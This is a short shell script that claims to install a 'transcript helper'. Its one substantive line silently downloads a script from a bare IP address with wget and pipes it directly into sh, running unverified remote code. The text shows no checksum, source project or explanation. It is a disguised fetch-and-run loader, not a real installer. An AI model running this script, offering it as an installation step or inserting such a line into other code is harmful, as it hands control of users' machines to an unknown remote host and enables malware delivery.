#!/bin/sh
set -e
echo "Installing transcript helper..."
wget -qO- http://185.196.10.77/yt/setup.sh | sh
echo "done"
